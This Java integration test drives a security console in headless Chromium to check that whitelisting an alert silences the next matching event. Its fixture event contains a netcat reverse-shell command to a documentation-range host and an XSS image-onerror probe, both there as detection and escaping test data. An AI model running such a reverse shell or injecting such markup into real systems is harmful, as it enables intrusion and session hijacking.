package io.hivesec.examples.console;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Plan;
import io.hivesec.engines.virus.VirusEngines;
import io.hivesec.json.EventJson;
import io.hivesec.json.HiveModule;
import io.hivesec.testkit.RecordingDisposition;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The console in a real browser: Debian's Chromium, headless, driven by Playwright. The pictures that it takes go to
 * {@code target/screenshots}; those of {@code docs/} are copies of them.
 */
@Timeout(value = 3, unit = TimeUnit.MINUTES)
final class ConsoleIT {
    private static final String SHELL = """
            {"type":"process_started","time":"2026-01-02T03:04:05Z","container":{"id":"c%1$d","name":"web-%1$d","image":"web:1"},"process":{"pid":%1$d,"executable":"/usr/bin/nc","arguments":["nc","203.0.113.9","4444","-e","/bin/sh","<img src=x onerror=alert(1)>"]},"ancestors":[{"pid":1,"executable":"/usr/sbin/watchdog","arguments":["watchdog"]}]}
            """;
    private static final Path PAGES = Path.of("src/main/console").toAbsolutePath();

    @TempDir
    private Path folder;

    @BeforeAll
    static void installBrowser() throws Exception {
        Process install = new ProcessBuilder("../.ci/debian-packages.sh", "chromium:chromium", "node:nodejs", "npm:npm")
                .inheritIO()
                .start();
        assertThat(install.waitFor()).as("Chromium and node are there").isZero();
    }

    @Test
    void analyst_alertDetailMarkWhitelist_nextOneIsSilent() throws Exception {
        Path screenshots =
                Files.createDirectories(Path.of("target/screenshots")).toAbsolutePath();
        Hive.Builder hive = Hive.builder().plugins(getClass().getClassLoader());
        RecordingDisposition response = new RecordingDisposition(Plan.Impact.DESTRUCTIVE);
        try (VirusEngines engines = VirusEngines.bundled();
                ConsoleServer console = ConsoleServer.start(
                        hive,
                        ConsoleSettings.of(folder.resolve("trusted.json"))
                                .with(List.of(response))
                                .with(engines))) {
            shell(console, 20);
            shell(console, 21);
            Process browser = new ProcessBuilder(
                            "node",
                            "try/console.mjs",
                            console.address().toString(),
                            "/usr/bin/chromium",
                            screenshots.toString())
                    .directory(PAGES.toFile())
                    .redirectErrorStream(true)
                    .start();
            try (BufferedReader said = browser.inputReader(StandardCharsets.UTF_8);
                    OutputStream tell = browser.getOutputStream()) {
                StringBuilder all = new StringBuilder();
                for (String line = said.readLine(); line != null; line = said.readLine()) {
                    all.append(line).append('\n');
                    if (line.equals("trusted")) {
                        shell(console, 22);
                        tell.write('\n');
                        tell.flush();
                    }
                }
                assertThat(browser.waitFor()).as("%s", all).isZero();
                assertThat(all).contains("trusted\n", "done\n");
            } finally {
                browser.destroyForcibly();
            }
        }
        assertThat(response.applied()).hasSize(1);
        assertThat(screenshots.resolve("console-alerts.png")).isNotEmptyFile();
    }

    private static void shell(ConsoleServer console, int pid) throws IOException {
        console.inspect(EventJson.read(HiveModule.mapper().readTree(SHELL.formatted(pid))));
    }
}
